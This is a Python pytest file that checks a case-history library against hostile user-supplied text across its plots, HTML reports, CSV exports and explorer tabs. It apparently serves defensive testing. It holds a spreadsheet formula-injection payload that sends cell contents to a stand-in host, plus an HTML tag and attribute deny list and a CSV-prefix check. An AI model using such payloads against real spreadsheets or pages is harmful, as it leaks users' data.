"""What strangers write goes through everything that people look at, and obeys nobody."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import histories
import matplotlib as mpl
import pytest
from answers import Pages
from histories import HOSTILE, event

import casesnb as cn
from casesnb.view.explorer.tabs import state_html
from casesnb.view.timeline.page import script

TEXTS = (*HOSTILE, '=HYPERLINK("http://x.test?"&A1,"Refund")', "+1 @SUM(A1) -2", "''=1")
EVENTS = [
    event(
        n,
        f"{1 + n:02}T09:00:00",
        histories.by(custom=text[:400] or "?") if n % 3 else None,
        kind="Case.Created" if n == 0 else (text[:100].strip() or "Case.Updated"),
        item=text[:100] if n % 4 == 2 else "",
        status=(TEXTS[n - 2] if n > 1 else "", text),
        assigned_user=(TEXTS[n - 1], text),
        title=text,
        **{f"field {text[:400]}": text},
    )
    for n, text in enumerate(TEXTS)
]
NOT_TEXT = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
PLOTS = sorted(
    {n for n in cn.__all__ if n.startswith("plot_")}
    - {"plot_data", "plot_text", "plot_comparison"}
)
TABS = ("Story", "Timeline", "Changes", "People", "As of", "Evidence")


@pytest.fixture(scope="module")
def plain() -> cn.History:
    return histories.history(EVENTS, case_id="<b>case</b> $4711$\u202e")


@pytest.fixture(scope="module")
def named(plain: cn.History) -> cn.History:
    """The same once strangers have named users, fields and options too."""
    events, changes = plain.events.copy(), plain.changes.copy()
    for frame in (events, changes):
        frame["actor_name"] = frame["actor"].astype("str") + TEXTS[1] + "\u202e$x$"
    changes["field"] = changes["field_id"].astype("str") + TEXTS[0] + "\n"
    changes["old_label"] = changes["old"].astype("str") + TEXTS[2]
    changes["new_label"] = changes["new"].astype("str") + TEXTS[2]
    return cn.History(events, changes, plain.certificate)


@pytest.fixture(scope="module")
def explorer() -> cn.CaseExplorer:
    explorer = cn.CaseExplorer(cn.connect(Pages(EVENTS)), domain_id="d", case_id="c")
    assert explorer.wait(60)
    return explorer


class _Read(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def is_harmless(html: str) -> None:
    """Nothing in the page runs, asks anybody, turns round, or is lost."""
    page = _Read(html)
    assert not {tag for tag, _ in page.tags} & {
        "script",
        "iframe",
        "object",
        "b0",
        "a1",
    }
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on")]
        source = attributes.get("src") or "data:image/png;base64,"
        assert source.startswith("data:image/png;base64,")
        assert tag != "a" or str(attributes["href"]).startswith("#")
    assert not NOT_TEXT.search(html)
    text = "".join(page.text)
    assert "onerror=" in text  # it is there, as text


def of_plot(name: str, plain: cn.History, named: cn.History) -> None:
    for history in (plain, named):
        plot: Callable[..., Any] = getattr(cn, name)
        of_events = name in {"plot_activity", "plot_cases", "plot_rhythm"}
        ax = plot(history.events if of_events else history.changes)
        figure = ax.get_figure(root=True)
        figure.canvas.draw()  # mathtext and missing glyphs would speak up here
        texts = [t for t in figure.findobj(mpl.text.Text) if t.get_visible()]
        assert not [t for t in texts if "$" in t.get_text() and t.get_parse_math()]
        lines = [line for t in texts for line in t.get_text().split("\n")]
        assert max(map(len, lines)) <= 200
        assert max(t.get_text().count("\n") for t in texts) < 3
        assert not [t for t in texts if NOT_TEXT.search(t.get_text())]
        words = cn.plot_text(ax)
        assert not NOT_TEXT.search(words)
        assert words.count("\n") < 40
        assert max(map(len, words.splitlines())) < 700


@pytest.mark.parametrize(
    "where", [*PLOTS, "story", "report", "csv", "snapshot", "state", *TABS]
)
def test_a_stranger_writes_nothing_that_is_obeyed(
    where: str,
    plain: cn.History,
    named: cn.History,
    explorer: cn.CaseExplorer,
    tmp_path: Path,
) -> None:
    if where in PLOTS:
        of_plot(where, plain, named)
    elif where == "story":
        for history in (plain, named):
            assert not NOT_TEXT.search(cn.story(history))
            told = cn.story(history).splitlines()
            assert max(map(len, told[:-1])) < 400  # the last one is the certificate
    elif where == "report":
        for history in (plain, named):
            path = cn.write_report(history, tmp_path / "r.html", title=TEXTS[1])
            ours = f'<script type="module" data-item="script">{script()}</script>'
            before, _, after = path.read_text("utf-8").partition(ours)
            is_harmless(before + after)
    elif where == "csv":
        named.to_csv_folder(tmp_path / "csv")
        n_cells = 0
        for file in (tmp_path / "csv").glob("*.csv"):
            with file.open(newline="", encoding="utf-8-sig") as lines:
                cells = [cell for row in csv.reader(lines) for cell in row]
            n_cells += len(cells)
            assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))]
        assert n_cells > 500
        again = cn.History.from_csv_folder(tmp_path / "csv")
        assert list(again.changes["new"]) == list(named.changes["new"])
    elif where == "snapshot":
        is_harmless(explorer.snapshot())
    elif where == "state":
        as_of = plain.events["performed_at"].iloc[4].to_pydatetime()

        is_harmless(state_html(named, as_of))
    else:
        explorer.tab.selected_index = TABS.index(where)
        page = explorer.tab.children[TABS.index(where)]
        left, html = [page], ""
        while left:
            widget = left.pop()
            left += getattr(widget, "children", ())
            html += widget.value if type(widget).__name__ in {"HTML", "Picture"} else ""
        is_harmless(html)
        assert "the page" not in explorer.selection.status  # what failed to draw
